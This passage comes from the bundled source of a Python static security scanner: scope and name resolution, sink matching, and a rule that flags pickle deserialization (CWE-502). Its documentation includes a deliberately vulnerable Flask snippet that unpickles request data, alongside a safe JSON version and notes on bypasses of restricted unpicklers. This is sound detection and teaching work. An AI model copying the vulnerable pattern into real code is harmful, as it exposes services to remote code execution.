      out2 += c;
    }
  }
  return out2;
}

// src/languages/python/semantic/scopes.ts
var COMPREHENSIONS = /* @__PURE__ */ new Set([
  "list_comprehension",
  "set_comprehension",
  "dictionary_comprehension",
  "generator_expression"
]);
function buildScopes(tree, moduleName) {
  const module2 = newScope("module", tree.root, null);
  const calls = [];
  const subscripts = [];
  const text = (n) => tree.source.slice(n.start, n.end);
  const stack = [{ node: tree.root, scope: module2 }];
  const bind2 = (scope, name2, kind, site, position, extra = {}) => {
    const target = scope.globals.has(name2) ? module2 : scope;
    let list = target.bindings.get(name2);
    if (!list) target.bindings.set(name2, list = []);
    list.push({ name: name2, kind, site, position, scope: target, ...extra });
  };
  const bindTarget = (scope, target, value, kind, position) => {
    const work = [{ t: target, v: value }];
    while (work.length) {
      const { t, v } = work.pop();
      switch (t.type) {
        case "identifier":
          bind2(scope, text(t), v ? kind : "opaque", t, position(t), v ? { value: v } : {});
          break;
        case "pattern_list":
        case "tuple_pattern":
        case "list_pattern":
        case "expression_list":
        case "tuple":
        case "list": {
          const values = v && ["expression_list", "tuple", "list", "pattern_list"].includes(v.type) ? v.children : [];
          const sameShape = values.length === t.children.length;
          t.children.forEach((c, i2) => work.push({ t: c, v: sameShape ? values[i2] : void 0 }));
          break;
        }
        case "list_splat_pattern":
        case "parenthesized_expression":
        case "parenthesized_list_splat":
          for (const c of t.children) work.push({ t: c, v: void 0 });
          break;
        case "as_pattern_target":
          for (const c of t.children) work.push({ t: c, v });
          break;
        default:
          stack.push({ node: t, scope });
      }
    }
  };
  const bindParameters = (params, inner, outer) => {
    if (!params) return;
    for (const p of params.children) {
      const name2 = p.type === "identifier" ? p : childByField(p, "name") ?? p.children.find((c) => c.type === "identifier");
      if (name2 && name2.type === "identifier") bind2(inner, text(name2), "opaque", name2, name2.end);
      for (const f of ["value", "type"]) {
        const v = childByField(p, f);
        if (v) stack.push({ node: v, scope: outer });
      }
    }
  };
  while (stack.length) {
    const { node, scope } = stack.pop();
    switch (node.type) {
      case "function_definition": {
        const name2 = childByField(node, "name");
        if (name2) bind2(scope, text(name2), "function", name2, node.end);
        const inner = newScope("function", node, scope);
        bindParameters(childByField(node, "parameters"), inner, scope);
        for (const c of node.children) {
          if (c.field === "body") stack.push({ node: c, scope: inner });
          else if (c.field === "return_type" || c.type === "decorator") stack.push({ node: c, scope });
        }
        continue;
      }
      case "lambda": {
        const inner = newScope("lambda", node, scope);
        bindParameters(childByField(node, "parameters"), inner, scope);
        const body2 = childByField(node, "body");
        if (body2) stack.push({ node: body2, scope: inner });
        continue;
      }
      case "class_definition": {
        const name2 = childByField(node, "name");
        if (name2) bind2(scope, text(name2), "class", name2, node.end, { classDef: node });
        const inner = newScope("class", node, scope);
        for (const c of node.children) {
          if (c.field === "body") stack.push({ node: c, scope: inner });
          else if (c.field !== "name") stack.push({ node: c, scope });
        }
        continue;
      }
      case "decorated_definition":
        break;
      case "import_statement":
        for (const c of node.children) bindImport(c, "", scope, node.end);
        continue;
      case "import_from_statement": {
        const moduleNode = childByField(node, "module_name");
        const from = moduleNode ? importedModuleName(moduleNode, moduleName, text) : "";
        for (const c of node.children) {
          if (c.type === "wildcard_import") scope.starImports.push({ module: from, site: c });
          else if (c.field === "name") bindImport(c, from, scope, node.end);
        }
        continue;
      }
      case "future_import_statement":
        continue;
      case "global_statement":
        for (const c of node.children) if (c.type === "identifier") scope.globals.add(text(c));
        continue;
      case "nonlocal_statement":
        for (const c of node.children) if (c.type === "identifier") scope.nonlocals.add(text(c));
        continue;
      case "assignment": {
        let right = childByField(node, "right");
        let value = right;
        while (value?.type === "assignment") value = childByField(value, "right");
        const left = childByField(node, "left");
        const afterStatement = () => node.end;
        if (left) bindTarget(scope, left, value, "assignment", afterStatement);
        if (right?.type === "assignment") {
          const innerLeft = childByField(right, "left");
          if (innerLeft) bindTarget(scope, innerLeft, value, "assignment", afterStatement);
          right = value;
        }
        if (right) stack.push({ node: right, scope });
        const type = childByField(node, "type");
        if (type) stack.push({ node: type, scope });
        continue;
      }
      case "augmented_assignment": {
        const left = childByField(node, "left");
        if (left) bindTarget(scope, left, void 0, "opaque", () => node.end);
        const right = childByField(node, "right");
        if (right) stack.push({ node: right, scope });
        continue;
      }
      case "named_expression": {
        const name2 = childByField(node, "name");
        const value = childByField(node, "value");
        let target = scope;
        while (target.kind === "comprehension" && target.parent) target = target.parent;
        if (name2) bind2(target, text(name2), value ? "assignment" : "opaque", name2, node.end, value ? { value } : {});
        if (value) stack.push({ node: value, scope });
        continue;
      }
      case "for_statement":
      case "for_in_clause": {
        const left = childByField(node, "left");
        if (left) bindTarget(scope, left, void 0, "opaque", (site) => site.end);
        for (const c of node.children) if (c !== left) stack.push({ node: c, scope });
        continue;
      }
      case "as_pattern": {
        const alias = childByField(node, "alias");
        const entered = node.parent?.type === "with_item" ? node.children.find((c) => c !== alias) : void 0;
        if (alias) bindTarget(scope, alias, entered, "assignment", (site) => site.end);
        for (const c of node.children) if (c !== alias) stack.push({ node: c, scope });
        continue;
      }
      case "call":
        calls.push({ node, scope });
        break;
      case "subscript":
        subscripts.push({ node, scope });
        break;
      default:
        if (COMPREHENSIONS.has(node.type)) {
          const inner = newScope("comprehension", node, scope);
          for (const c of node.children) stack.push({ node: c, scope: inner });
          continue;
        }
    }
    for (let i2 = node.children.length - 1; i2 >= 0; i2--) stack.push({ node: node.children[i2], scope });
  }
  return { module: module2, calls, subscripts };
  function bindImport(item, from, scope, position) {
    if (item.type === "aliased_import") {
      const name2 = childByField(item, "name");
      const alias = childByField(item, "alias");
      if (!name2 || !alias) return;
      const qualifiedName = from ? `${from}.${text(name2)}` : text(name2);
      bind2(scope, text(alias), "import", alias, position, { qualifiedName });
    } else if (item.type === "dotted_name") {
      const dotted = text(item).replace(/\s+/g, "");
      if (from) {
        bind2(scope, dotted, "import", item, position, { qualifiedName: `${from}.${dotted}` });
      } else {
        const top = dotted.split(".")[0];
        bind2(scope, top, "import", item, position, { qualifiedName: top });
      }
    }
  }
}
function newScope(kind, node, parent) {
  return { kind, node, parent, bindings: /* @__PURE__ */ new Map(), globals: /* @__PURE__ */ new Set(), nonlocals: /* @__PURE__ */ new Set(), starImports: [] };
}
function importedModuleName(node, moduleName, text) {
  if (node.type !== "relative_import") return text(node).replace(/\s+/g, "");
  const prefix = node.children.find((c) => c.type === "import_prefix");
  const rest = node.children.find((c) => c.type === "dotted_name");
  const level = prefix ? text(prefix).length : 0;
  const restText = rest ? text(rest).replace(/\s+/g, "") : "";
  const parts2 = moduleName ? moduleName.split(".") : [];
  if (!moduleName || level > parts2.length) return ".".repeat(level) + restText;
  const base = parts2.slice(0, parts2.length - level);
  if (restText) base.push(restText);
  return base.join(".");
}

// src/languages/python/semantic/model.ts
var MAX_DEPTH = 32;
var LOCAL = "<local>.";
var SemanticModel = class {
  constructor(tree, moduleName) {
    this.tree = tree;
    const index = buildScopes(tree, moduleName);
    this.calls = index.calls;
    this.subscripts = index.subscripts;
    this.module = index.module;
  }
  tree;
  calls;
  subscripts;
  module;
  bindingCache = /* @__PURE__ */ new Map();
  inProgress = /* @__PURE__ */ new Set();
  text(node) {
    return this.tree.source.slice(node.start, node.end);
  }
  /** All qualified names `expr` may denote in `scope`; empty when unknown. */
  resolve(expr, scope, depth = 0) {
    if (depth > MAX_DEPTH) return [];
    const node = unwrapParentheses(expr);
    switch (node.type) {
      case "identifier":
        return this.resolveName(this.text(node), scope, node, depth);
      case "attribute":
        return this.resolveAttribute(node, scope, depth);
      case "call":
        return this.resolveCallResult(node, scope, depth);
      case "subscript":
        return this.resolveSubscript(node, scope, depth);
      case "conditional_expression": {
        const [a, , b] = node.children;
        return [...a ? this.resolve(a, scope, depth + 1) : [], ...b ? this.resolve(b, scope, depth + 1) : []];
      }
      case "boolean_operator": {
        const left = childByField(node, "left");
        const right = childByField(node, "right");
        return [...left ? this.resolve(left, scope, depth + 1) : [], ...right ? this.resolve(right, scope, depth + 1) : []];
      }
      case "named_expression": {
        const value = childByField(node, "value");
        return value ? this.resolve(value, scope, depth + 1) : [];
      }
      default:
        return [];
    }
  }
  /** The string an expression always evaluates to, when it is built from literals (and names bound to them). */
  constantString(expr, scope, depth = 0) {
    if (depth > MAX_DEPTH) return void 0;
    const node = unwrapParentheses(expr);
    switch (node.type) {
      case "string":
        return this.stringLiteral(node);
      case "concatenated_string": {
        let out2 = "";
        for (const part of node.children) {
          const s = this.stringLiteral(part);
          if (s === void 0) return void 0;
          out2 += s;
        }
        return out2;
      }
      case "binary_operator": {
        const left = childByField(node, "left");
        const right = childByField(node, "right");
        if (!left || !right || this.tree.source.slice(left.end, right.start).trim() !== "+") return void 0;
        const l = this.constantString(left, scope, depth + 1);
        const r = l === void 0 ? void 0 : this.constantString(right, scope, depth + 1);
        return l === void 0 || r === void 0 ? void 0 : l + r;
      }
      case "identifier": {
        const bindings = this.lookup(this.text(node), scope, node);
        if (!bindings || bindings.length !== 1) return void 0;
        const [b] = bindings;
        return b.kind === "assignment" && b.value ? this.constantString(b.value, b.scope, depth + 1) : void 0;
      }
      default:
        return void 0;
    }
  }
  /** Bindings that `name` may refer to at `use` (LEGB, class bodies invisible to nested scopes). */
  lookup(name2, scope, use) {
    let s = scope;
    let sameScope = true;
    while (s) {
      if (!sameScope && s.kind === "class") {
        s = s.parent;
        continue;
      }
      if (s.globals.has(name2) && s !== this.module) {
        s = this.module;
        sameScope = false;
        continue;
      }
      const bindings = s.bindings.get(name2);
      if (bindings?.length) return sameScope ? reachingBindings(bindings, use, s) : bindings;
      sameScope = false;
      s = s.parent;
    }
    return void 0;
  }
  /** Base classes of a class defined in this file, resolved transitively through other local classes. */
  classAncestors(classDef, scope) {
    const out2 = [];
    const seen = /* @__PURE__ */ new Set();
    const work = [{ def: classDef, scope }];
    while (work.length && seen.size < MAX_DEPTH) {
      const { def, scope: defScope } = work.pop();
      if (seen.has(def)) continue;
      seen.add(def);
      const bases = childByField(def, "superclasses");
      if (!bases) continue;
      for (const base of bases.children) {
        if (base.type === "keyword_argument") continue;
        for (const r of this.resolve(base, defScope)) {
          out2.push(r);
          if (r.localClass) work.push({ def: r.localClass, scope: this.scopeOfDefinition(r.localClass) ?? defScope });
        }
      }
    }
    return out2;
  }
  scopeOfDefinition(def) {
    const find = (scope) => {
      for (const list of scope.bindings.values()) for (const b of list) if (b.classDef === def) return scope;
      return void 0;
    };
    return find(this.module) ?? this.calls.map((c) => c.scope).find((s) => find(s));
  }
  resolveName(name2, scope, use, depth) {
    const bindings = this.lookup(name2, scope, use);
    if (!bindings) {
      const fromStar = this.module.starImports.map((s) => ({ name: canonicalName(`${s.module}.${name2}`) }));
      if (PYTHON_BUILTINS.has(name2)) fromStar.push({ name: `builtins.${name2}` });
      return fromStar;
    }
    const out2 = [];
    for (const b of bindings) out2.push(...this.resolveBinding(b, depth));
    return out2;
  }
  resolveBinding(b, depth) {
    switch (b.kind) {
      case "import":
        return [{ name: canonicalName(b.qualifiedName) }];
      case "function":
        return [{ name: LOCAL + b.name }];
      case "class":
        return [{ name: LOCAL + b.name, localClass: b.classDef }];
      case "opaque":
        return [];
      case "assignment": {
        const cached3 = this.bindingCache.get(b);
        if (cached3) return cached3;
        if (this.inProgress.has(b) || !b.value) return [];
        this.inProgress.add(b);
        const result2 = this.resolve(b.value, b.scope, depth + 1);
        this.inProgress.delete(b);
        this.bindingCache.set(b, result2);
        return result2;
      }
    }
  }
  resolveAttribute(node, scope, depth) {
    const attributes = [];
    let base = node;
    while (base.type === "attribute") {
      const attr = childByField(base, "attribute");
      const object = childByField(base, "object");
      if (!attr || !object) return [];
      attributes.push(this.text(attr));
      base = unwrapParentheses(object);
    }
    attributes.reverse();
    const suffix = attributes.join(".");
    return this.resolve(base, scope, depth + 1).map((r) => ({
      name: canonicalName(`${r.name}.${suffix}`),
      ...attributes.length === 1 && r.constructedBy ? { constructedBy: r.constructedBy } : {}
    }));
  }
  resolveCallResult(node, scope, depth) {
    const callee = childByField(node, "function");
    if (!callee) return [];
    const args2 = childByField(node, "arguments");
    const positional = args2 ? args2.children.filter((c) => c.type !== "keyword_argument" && c.type !== "comment") : [];
    const keyword = (name2) => args2?.children.find((c) => c.type === "keyword_argument" && this.text(childByField(c, "name") ?? c) === name2);
    const out2 = [];
    for (const c of this.resolve(callee, scope, depth + 1)) {
      switch (c.name) {
        case "importlib.import_module":
        case "importlib.__import__":
        case "builtins.__import__": {
          const moduleArg2 = positional[0] ?? valueOf(keyword("name"));
          const moduleName = moduleArg2 && this.constantString(moduleArg2, scope, depth + 1);
          if (!moduleName || moduleName.startsWith(".")) break;
          const fromlist = positional[3] ?? valueOf(keyword("fromlist"));
          const wantsLeaf = c.name === "importlib.import_module" || fromlist && !isEmptyLiteral(fromlist);
          out2.push({ name: canonicalName(wantsLeaf ? moduleName : moduleName.split(".")[0]) });
          break;
        }
        case "builtins.getattr": {
          const attr = positional[1] && this.constantString(positional[1], scope, depth + 1);
          if (positional[0] && attr) {
            for (const o of this.resolve(positional[0], scope, depth + 1)) out2.push({ name: canonicalName(`${o.name}.${attr}`) });
          }
          break;
        }
        case "builtins.vars":
          if (positional[0]) {
            for (const o of this.resolve(positional[0], scope, depth + 1)) out2.push({ name: `${o.name}.__dict__` });
          }
          break;
        case "functools.partial":
          if (positional[0]) out2.push(...this.resolve(positional[0], scope, depth + 1));
          break;
        default:
          out2.push({ name: `${c.name}()`, constructedBy: { call: node, scope } });
      }
    }
    return out2;
  }
  resolveSubscript(node, scope, depth) {
    const value = childByField(node, "value");
    const index = childByField(node, "subscript");
    if (!value || !index) return [];
    const key = this.constantString(index, scope, depth + 1);
    if (key === void 0) return [];
    const out2 = [];
    for (const v of this.resolve(value, scope, depth + 1)) {
      if (v.name === "sys.modules") out2.push({ name: canonicalName(key) });
      else if (v.name.endsWith(".__dict__")) out2.push({ name: canonicalName(`${v.name.slice(0, -".__dict__".length)}.${key}`) });
    }
    return out2;
  }
  stringLiteral(node) {
    return node.type === "string" ? decodeStringLiteral(this.text(node)) : void 0;
  }
};
function unwrapParentheses(node) {
  let n = node;
  while (n.type === "parenthesized_expression" && n.children.length === 1) n = n.children[0];
  return n;
}
function valueOf(keywordArgument) {
  return keywordArgument ? childByField(keywordArgument, "value") : void 0;
}
function isEmptyLiteral(node) {
  return (node.type === "list" || node.type === "tuple") && node.children.length === 0;
}
function reachingBindings(bindings, use, scope) {
  const preceding = bindings.filter((b) => b.position <= use.start).sort((a, b) => a.position - b.position);
  if (!preceding.length) return bindings;
  const out2 = [];
  for (let i2 = preceding.length - 1; i2 >= 0; i2--) {
    out2.push(preceding[i2]);
    if (isUnconditional(preceding[i2].site, use, scope.node)) break;
  }
  return out2;
}
function isUnconditional(site, use, scopeNode) {
  for (let n = site.parent; n && n !== scopeNode; n = n.parent) {
    if (n.type === "block" && n.parent?.type !== "with_statement" && !isAncestor(n, use)) return false;
  }
  return true;
}

// src/languages/python/analyze.ts
var MAX_SNIPPET_LINES = 5;
function mayMatch(source, rules) {
  for (const rule of rules) for (const token of rule.prefilter) if (source.includes(token)) return true;
  return hasComputedDynamicImport(source);
}
var COMPUTED_DYNAMIC_IMPORT = /(?:__import__|import_module)\s*\(\s*(?![rRuU]?(?:'[\w.]*'|"[\w.]*")\s*[,)])/;
function hasComputedDynamicImport(source) {
  return (source.includes("__import__") || source.includes("import_module")) && COMPUTED_DYNAMIC_IMPORT.test(source);
}
var SinkIndex = class {
  constructor(rules) {
    this.rules = rules;
    this.hasReferenceSinks = rules.some((r) => r.sinks.some((s) => s.references));
    for (const rule of rules) {
      for (const spec of rule.sinks) {
        for (const name2 of spec.call) {
          let list = this.byName.get(name2);
          if (!list) this.byName.set(name2, list = []);
          list.push({ rule, spec });
        }
      }
    }
  }
  rules;
  byName = /* @__PURE__ */ new Map();
  /** Some sink is also reported when passed as a callback. */
  hasReferenceSinks;
};
function analyzePython(parser, file, index) {
  if (!mayMatch(file.source, index.rules)) return { findings: [], errors: [], parsed: false };
  const tree = parser.parse(file.source);
  const errors = [];
  if (tree.problems.length) {
    const first = tree.problems[0];
    errors.push({
      file: file.path,
      kind: "syntax",
      level: "warning",
      line: first.row + 1,
      column: first.col + 1,
      message: `syntax error${tree.problems.length > 1 ? `s (${tree.problems.length})` : ""}, first at line ${first.row + 1}; scanned what parsed`
    });
  }
  const model = new SemanticModel(tree, file.moduleName);
  const matches = collectMatches(model, index);
  const findings = matches.map((m) => toFinding(m, file, model));
  applySuppressions(findings, tree.comments.map((c) => ({ row: c.startRow, text: model.text(c) })), index.rules);
  assignFingerprints(findings, matches);
  return { findings, errors, parsed: true };
}
function collectMatches(model, index) {
  const out2 = [];
  const reported = /* @__PURE__ */ new Set();
  const report = (m) => {
    const key = `${m.rule.id}@${m.node.start}:${m.node.end}`;
    if (reported.has(key)) return;
    const outcome = m.spec.check ? m.spec.check(m) : {};
    if (outcome === null) return;
    reported.add(key);
    out2.push({ ...m, outcome });
  };
  for (const { node, scope } of model.calls) {
    const callee = childByField(node, "function");
    if (!callee) continue;
    let args2;
    const argsOf = () => args2 ??= new CallArguments(node, model.tree.source);
    const resolvedCallee = uniqueNames(model.resolve(callee, scope));
    const base = { node, calleeText: "", model, scope };
    for (const resolved of resolvedCallee) {
      const sinks = index.byName.get(resolved.name);
      if (!sinks && !resolved.localClass) continue;
      base.calleeText ||= shortened(model.text(callee));
      const receiver = resolved.constructedBy && {
        ...resolved.constructedBy,
        args: new CallArguments(resolved.constructedBy.call, model.tree.source)
      };
      for (const sink of sinks ?? []) {
        report({ ...base, args: argsOf(), ...sink, target: resolved.name, via: "call", ...receiver ? { receiver } : {} });
      }
      if (resolved.localClass) {
        for (const ancestor of uniqueNames(model.classAncestors(resolved.localClass, scope))) {
          for (const sink of index.byName.get(ancestor.name) ?? []) {
            if (!sink.spec.subclasses) continue;
            const subclass = { name: resolved.name.replace(/^<local>\./, ""), overridesFindClass: definesMethod(model, resolved.localClass, "find_class") };
            report({ ...base, args: argsOf(), ...sink, target: ancestor.name, via: "subclass", subclass });
          }
        }
      }
    }
    if (!index.hasReferenceSinks) continue;
    for (const value of argsOf().values()) {
      if (value.type !== "identifier" && value.type !== "attribute") continue;
      for (const resolved of uniqueNames(model.resolve(value, scope))) {
        for (const sink of index.byName.get(resolved.name) ?? []) {
          if (!sink.spec.references) continue;
          const empty = new CallArguments(void 0, "");
          report({ node: value, calleeText: shortened(model.text(value)), args: empty, model, scope, ...sink, target: resolved.name, via: "reference" });
        }
      }
    }
  }
  return withoutCoveredReferences(out2);
}
function withoutCoveredReferences(matches) {
  const calls = matches.filter((m) => m.via !== "reference");
  return matches.filter(
    (m) => m.via !== "reference" || !calls.some((c) => c.rule === m.rule && c.node.start <= m.node.start && m.node.end <= c.node.end)
  );
}
function toFinding(m, file, model) {
  const outcome = m.outcome ?? {};
  const lines = lineSlice(model.tree.source, m.node.startRow, Math.min(m.node.endRow, m.node.startRow + MAX_SNIPPET_LINES - 1));
  return {
    ruleId: m.rule.id,
    ruleName: m.rule.name,
    message: outcome.message ?? m.spec.message(m),
    severity: outcome.severity ?? m.rule.severity,
    confidence: outcome.confidence ?? (m.via === "reference" ? "medium" : m.rule.confidence),
    location: {
      file: file.path,
      line: m.node.startRow + 1,
      column: m.node.startCol + 1,
      endLine: m.node.endRow + 1,
      endColumn: m.node.endCol + 1,
      snippet: lines
    },
    cwe: m.rule.cwe,
    owasp: m.rule.owasp,
    fingerprint: "",
    ...outcome.fix ? { fix: outcome.fix } : {}
  };
}
function applySuppressions(findings, comments, rules) {
  if (!comments.length) return;
  const byRow = /* @__PURE__ */ new Map();
  for (const c of comments) {
    const d = parseSuppression(c.text);
    if (d) byRow.set(c.row + 1, d);
  }
  if (!byRow.size) return;
  const banditIds = new Map(rules.map((r) => [r.id, r.banditIds]));
  for (const f of findings) {
    for (let line = f.location.line; line <= f.location.endLine && !f.suppressed; line++) {
      const d = byRow.get(line);
      if (d) f.suppressed = suppresses(d, f.ruleId, banditIds.get(f.ruleId) ?? []);
    }
  }
}
function assignFingerprints(findings, matches) {
  const seen = /* @__PURE__ */ new Map();
  findings.forEach((f, i2) => {
    const m = matches[i2];
    const code3 = m.model.text(m.node).replace(/\s+/g, "");
    const key = `${f.ruleId}|${f.location.file}|${enclosingPath(m.scope, m.model)}|${code3}`;
    const n = seen.get(key) ?? 0;
    seen.set(key, n + 1);
    f.fingerprint = stableHash(`${key}|${n}`);
  });
}
function enclosingPath(scope, model) {
  const names = [];
  for (let s = scope; s && s.kind !== "module"; s = s.parent) {
    const name2 = childByField(s.node, "name");
    names.push(name2 ? model.text(name2) : s.kind);
  }
  return names.reverse().join(".");
}
function definesMethod(model, classDef, method) {
  const body2 = childByField(classDef, "body");
  if (!body2) return false;
  return body2.children.some((stmt) => {
    const def = stmt.type === "decorated_definition" ? childByField(stmt, "definition") : stmt;
    const name2 = def?.type === "function_definition" ? childByField(def, "name") : void 0;
    return name2 !== void 0 && model.text(name2) === method;
  });
}
function shortened(code3) {
  const compact = code3.replace(/\s+/g, "");
  return compact.length > 60 ? compact.slice(0, 57) + "..." : compact;
}
function uniqueNames(names) {
  const seen = /* @__PURE__ */ new Set();
  return names.filter((n) => !seen.has(n.name) && (seen.add(n.name), true));
}
function lineSlice(source, fromRow, toRow) {
  let start2 = 0;
  for (let row = 0; row < fromRow; row++) {
    const nl = source.indexOf("\n", start2);
    if (nl < 0) return "";
    start2 = nl + 1;
  }
  let end = start2;
  for (let row = fromRow; row <= toRow; row++) {
    const nl = source.indexOf("\n", end);
    end = nl < 0 ? source.length : nl + 1;
  }
  return source.slice(start2, end).replace(/\r?\n$/, "").replace(/\r/g, "");
}

// src/rules/rule.ts
function defineRule(rule) {
  return rule;
}
function code(s) {
  return "`" + s + "`";
}

// src/rules/python/shared-docs.ts
var DESERIALIZATION_COMPLIANCE = [
  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
  { framework: "OWASP Top 10", control: "A08:2021 Software and Data Integrity Failures" },
  { framework: "NIST SP 800-53", control: "SI-10 Information Input Validation" },
  { framework: "PCI DSS v4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
];
var DESERIALIZATION_REFERENCES = [
  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
  { title: "OWASP Top 10 A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
  { title: "OWASP Deserialization Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html" },
  { title: "Python documentation: pickle (security warning)", url: "https://docs.python.org/3/library/pickle.html" },
  { title: "Bandit B301: pickle", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" }
];

// src/rules/python/PYTHON-LANG-SEC-040.ts
var PICKLE_SINKS = ["pickle.loads", "pickle.load", "pickle.Unpickler", "pickle._loads", "pickle._load", "pickle._Unpickler"];
function message(m) {
  const spelled2 = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
  switch (m.via) {
    case "subclass":
      return `${code(m.subclass.name)} subclasses ${m.target} and unpickles its input` + (m.subclass.overridesFindClass ? "; overriding find_class narrows what loads but does not make untrusted data safe: restricted unpicklers are routinely bypassed" : "") + ". Use a data-only format for untrusted input.";
    case "reference":
      return `${spelled2} is passed as a callable: every value it is applied to is unpickled, which can run arbitrary code. Use a data-only format for untrusted input.`;
    default:
      return `${spelled2} deserializes with pickle, which runs whatever code the bytes describe. Never unpickle data that could come from an untrusted source; use a data-only format such as JSON.`;
  }
}
var PYTHON_LANG_SEC_040_default = defineRule({
  id: "PYTHON-LANG-SEC-040",
  name: "Pickle Deserialization of Untrusted Data",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "pickle", "rce", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B301"],
  similar: ["PYTHON-LANG-SEC-044", "PYTHON-LANG-SEC-045", "PYTHON-LANG-SEC-046", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-005"],
  prefilter: ["pickle", "Pickle"],
  sinks: [{ call: PICKLE_SINKS, subclasses: true, references: true, message }],
  docs: {
    summary: "Detects pickle deserialization (`pickle.loads`, `pickle.load`, `pickle.Unpickler`), which executes arbitrary code from its input.",
    description: 'Python\'s `pickle` format is a small stack-based program, not a data format. Loading a pickle runs that program: it can import any module and call any function with any arguments (`os.system`, `subprocess.Popen`, `eval`, ...). This rule reports every call that unpickles: `pickle.loads`, `pickle.load`, `pickle.Unpickler(...)` and its subclasses, and the same functions reached through `cPickle`, `_pickle`, `pickle5`, `six.moves.cPickle`, import aliases, `from pickle import *`, rebinding (`loader = pickle.loads`), `importlib.import_module("pickle")`, `__import__("pickle")`, `getattr(pickle, "loads")` and `functools.partial`. It also reports `pickle.loads` passed uncalled as a callback (`map(pickle.loads, blobs)`).',
    securityImplications: "Anyone who can influence the bytes that reach the unpickler can run code with the privileges of the process: read secrets and credentials, move laterally, install a backdoor, or tamper with data. Typical entry points are request bodies, cookies and session stores, message queues, caches (Redis, memcached), files uploaded by users, and model or data files downloaded from the internet. There is no safe subset of pickle and no way to sanitize a payload before loading it; restricting `find_class` in an `Unpickler` subclass reduces the attack surface but has been bypassed repeatedly (gadgets in allowed modules, `getattr` chains, nested pickles).",
    howToFix: "Do not unpickle data that crosses a trust boundary. Serialize with a data-only format instead: `json`, `msgpack`, Protocol Buffers, or `safetensors` for tensors and model weights. If pickle must stay for data the process produced itself, authenticate it before loading (an HMAC with a server-side key, verified with `hmac.compare_digest`), keep it out of reach of users, and treat the key as a secret.",
    fixHint: "Use a data-only format (json, msgpack, safetensors) or verify an HMAC before unpickling data you produced yourself.",
    vulnerableExample: [
      "import pickle",
      "from flask import request",
      "",
      '@app.route("/session", methods=["POST"])',
      "def restore_session():",
      "    session = pickle.loads(request.data)  # attacker-controlled bytes run as code",
      '    return session["user"]'
    ].join("\n"),
    safeExample: [
      "import json",
      "from flask import request",
      "",
      '@app.route("/session", methods=["POST"])',
      "def restore_session():",
      "    session = json.loads(request.data)  # data only: no code runs",
      '    return session["user"]'
    ].join("\n"),
    detectionScope: 'Every call of `pickle.loads`, `pickle.load`, `pickle.Unpickler` (and the pure-Python `_loads`, `_load`, `_Unpickler`) resolved through the file\'s imports and bindings: aliases, `from pickle import ...`, star imports, `cPickle`/`_pickle`/`pickle5`/`six.moves.cPickle`, `try`/`except ImportError` fallbacks, rebinding, `importlib.import_module`/`__import__` with constant module names (also built by concatenation), `getattr(module, "loads")`, `sys.modules["pickle"]`, `functools.partial`, instantiation of classes in the same file that derive from `pickle.Unpickler` (with or without a `find_class` override), and sink functions passed as callbacks. Names shadowed by parameters, locals or attributes are not reported; strings and comments never match. `pickle.dumps`/`pickle.dump` are not findings. Not covered: calls through wrappers defined in other modules (add them as custom sinks in the configuration) and modules named by run-time strings. Every call is reported regardless of where its data comes from, because pickle has no safe input in practice; suppress a reviewed call with `# pathfinder: ignore[PYTHON-LANG-SEC-040]`.',
    references: DESERIALIZATION_REFERENCES,
    faq: [
      {
        question: "The data comes from our own cache or database. Is this a false positive?",
        answer: "Only if no attacker can ever write to that store. Caches, queues and databases are frequent pivot points: an injection or SSRF elsewhere becomes code execution here. Prefer a data-only format; otherwise sign the payload with an HMAC and verify it before loading, then suppress the finding with a justification."
      },
      {
        question: "We subclassed Unpickler and restricted find_class. Why is it still reported?",
        answer: "A restricted unpickler is a denylist or allowlist over a Turing-complete format. Published bypasses abuse allowed globals (`getattr`, `operator`, `functools`, numpy and torch helpers) and nested pickles. Keep the restriction as defence in depth, but do not feed it untrusted data."
      },
      {
        question: "Is `pickle.dumps` dangerous?",
        answer: "No. Serializing runs no attacker-controlled code; only loading does. `dump`/`dumps` are never reported."
      },
      {
        question: "Does this rule also cover joblib, torch.load, numpy.load or dill?",
        answer: "Those libraries unpickle under the hood and have their own rules (see similar rules) so that each can check its own safe options, such as `weights_only=True` or `allow_pickle=False`."
      }
    ]
  }
});

// src/rules/python/sink-helpers.ts
function literalTruth(node, source) {
  if (!node) return void 0;
  let n = node;
  while (n.type === "parenthesized_expression" && n.children.length === 1) n = n.children[0];
  switch (n.type) {
    case "true":
      return true;
    case "false":
    case "none":
      return false;
    case "integer":
    case "float": {
      const value = Number(source.slice(n.start, n.end).replace(/_/g, ""));
      return Number.isNaN(value) ? void 0 : value !== 0;
    }
    case "string": {
      const value = decodeStringLiteral(source.slice(n.start, n.end));
      return value === void 0 ? void 0 : value.length > 0;
    }
    default:
      return void 0;
  }
}
function namesOf(m, node) {
  return [...new Set(m.model.resolve(node, m.scope).map((r) => r.name))];
}
function classNamesOf(m, node) {
  const own = [];
  const ancestors = [];
  for (const r of m.model.resolve(node, m.scope)) {
    own.push(r.name);
    if (r.localClass) for (const a of m.model.classAncestors(r.localClass, m.scope)) ancestors.push(a.name);
  }
  return { own: [...new Set(own)], ancestors: [...new Set(ancestors)] };
}
function spelled(m) {
  return m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
}
function replaceNode(node, newText) {
  return {
    line: node.startRow + 1,
    column: node.startCol + 1,
    endLine: node.endRow + 1,
    endColumn: node.endCol + 1,
    newText
  };
}
function calleeAttributeName(call) {
  const callee = childByField(call, "function");
  return callee?.type === "attribute" ? childByField(callee, "attribute") : void 0;
}
function appendKeywordArgument(m, text) {
  if (m.args.hasKwArgs || m.args.hasStarArgs) return void 0;
  const list = childByField(m.node, "arguments");
  if (!list || list.type !== "argument_list") return void 0;
